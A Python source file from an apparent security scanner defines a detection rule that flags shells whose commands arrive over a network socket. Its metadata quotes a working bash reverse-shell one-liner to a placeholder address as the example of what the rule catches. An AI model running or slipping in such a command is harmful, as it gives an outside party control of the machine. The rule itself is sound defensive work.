"""A shell is tied to the network."""

import re
from collections.abc import Iterator

from clawft.scan.facts import Kind
from clawft.scan.rule import Hit, Rule
from clawft.scan.subject import Subject

__all__ = ["RULE"]


_SHELL = re.compile(
    r"^(\S*[/\\])?(sh|bash|zsh|dash|ksh|ash|fish|cmd|powershell|pwsh|python\d?|perl|ruby|node|php)(\.exe)?\b",
    re.IGNORECASE,
)


def check_remote_shell(subject: Subject) -> Iterator[Hit]:
    for run in subject.of(Kind.EXEC, Kind.EVAL):
        if run.kind is Kind.EXEC and run.target.strip() and not _SHELL.match(run.target.strip()):
            continue  # one given command, whoever asks for it
        for source in subject.trace(run):
            if source.kind in (Kind.CONNECT, Kind.LISTEN):
                whence = f"from {source.target}" if source.target else "from the network"
                yield Hit(run, f"A shell takes its commands {whence}", 0.95)


RULE = Rule(
    id="remote-shell",
    title="A shell that someone else commands",
    severity="critical",
    category="execution",
    what="A socket is connected or opened, and what comes over it is run.",
    why="Whoever is at the other end controls the machine.",
    example="bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
    counter_example="nc -z localhost 5432 && echo up",
    fix="Remove it.",
    check=check_remote_shell,
    owasp="AST01",
    atlas="AML.T0050",
)
